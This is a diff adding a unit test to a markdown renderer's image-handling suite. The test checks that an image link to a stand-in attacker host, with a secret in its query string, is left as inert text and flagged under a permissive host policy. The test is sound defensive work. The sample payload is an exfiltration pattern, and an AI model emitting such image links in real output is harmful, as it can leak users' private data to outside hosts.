@@ -89,6 +89,14 @@ describe('images', () => {
     );
   });
 
+  it("keeps seed 003's exfiltration literal text under hosts: 'any' too: no link may carry its query", () => {
+    const { html: out, findings } = renderMarkdown('![image](https://evil.example/logo.png?q=SECRET)', {
+      policy: anyHost,
+    });
+    expect(out).toBe('<p>![image](https://evil.example/logo.png?q=SECRET)</p>\n');
+    expect(findings).toEqual([urlBlocked('query_budget')]);
+  });
+
   it("turns every image into a link under a policy with hosts: 'any'", () => {
     const { html: out, findings } = renderMarkdown('![logo *x*](https://img.example/logo.png)', {
       policy: anyHost,
